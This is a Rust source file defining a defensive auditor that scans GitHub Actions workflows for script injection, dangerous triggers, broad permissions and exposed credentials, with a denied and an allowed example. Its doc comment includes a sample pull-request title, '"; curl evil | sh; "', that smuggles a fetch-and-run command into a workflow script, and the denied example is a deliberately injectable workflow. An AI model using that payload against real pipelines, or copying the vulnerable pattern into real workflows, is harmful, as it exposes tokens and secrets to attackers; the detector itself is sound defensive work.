//! `pipeline_integrity_auditor`.

use pi_agent_api::{Report, Stop, declare_agent};
use pi_artifacts::{Artifact, Kind};

use super::workflow::model::Workflow;
use super::{pipeline_injection as injection, pipeline_rules as rules};

declare_agent! {
    /// # What it checks
    /// GitHub Actions workflows and composite actions, read by a YAML parser and a
    /// parser of the expression grammar:
    /// - text that strangers choose (titles, bodies, branch names, commit messages)
    ///   expanded into a script, also by way of `env` and `matrix`;
    /// - other text expanded into a script (inputs, outputs of steps);
    /// - code of a pull request checked out under `pull_request_target`,
    ///   `workflow_run` or `issue_comment`; these triggers themselves;
    /// - permissions: `write-all`, write permissions for a whole workflow, none
    ///   declared at all. `permissions: {}` grants nothing and is the best setting;
    /// - secrets handed on as a whole; credentials that a checkout leaves on disk;
    ///   self-hosted runners; workflow commands that were switched back on; caches
    ///   that are restored in workflows that publish; environment files written
    ///   with foreign text under a dangerous trigger.
    ///
    /// # Why it matters
    /// `${{ }}` is replaced before the shell starts: a pull request titled
    /// `"; curl evil | sh; "` is then part of the script and runs with the
    /// workflow's token and secrets.
    ///
    /// # Example denied
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// # Example allowed
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// # Limits
    /// One file is read at a time: what a called workflow or action does with its
    /// inputs is not seen. Outputs of steps are all of one kind, whatever the step
    /// writes into them. The default permissions of a repository may already be
    /// read-only. Whether a self-hosted runner is ephemeral is not known.
    ///
    /// # References
    /// CWE-94 (code injection), CWE-78 (OS command injection), CWE-829, CWE-250
    /// (execution with unnecessary privileges), CWE-522 (insufficiently protected
    /// credentials), OWASP CICD-SEC-1, 4, 5, 6, OpenSSF Scorecard
    /// `Dangerous-Workflow` and `Token-Permissions`.
    pub struct PipelineIntegrityAuditor {
        slug: "pipeline_integrity_auditor",
        domain: SupplyChainCi,
        phase: Validate,
        revision: 2,
        since: "0.1.0",
        status: Preview,
        kinds: [Kind::GithubWorkflow, Kind::GithubAction],
        triggers: Always,
        invariant_to: ALL,
        rules: [
            injection::UNTRUSTED,
            injection::INDIRECT,
            injection::ENVIRONMENT_FILE,
            rules::CHECKOUT,
            rules::TRIGGER,
            rules::WRITE_ALL,
            rules::READ_ALL,
            rules::BROAD,
            rules::DEFAULT,
            rules::INHERIT,
            rules::ALL_SECRETS,
            rules::PERSISTED,
            rules::SELF_HOSTED,
            rules::COMMANDS,
            rules::CACHE,
        ],
        fixture: include_str!("fixtures/pipeline_integrity_auditor.md"),
        check: check,
    }
}

fn check(artifact: &Artifact, report: &mut Report) -> Result<(), Stop> {
    let Some(workflow) = Workflow::read(artifact)? else { return Ok(()) };
    if workflow.jobs.is_empty() {
        return Ok(());
    }
    injection::check(artifact, &workflow, report)?;
    rules::check(&workflow, report)
}
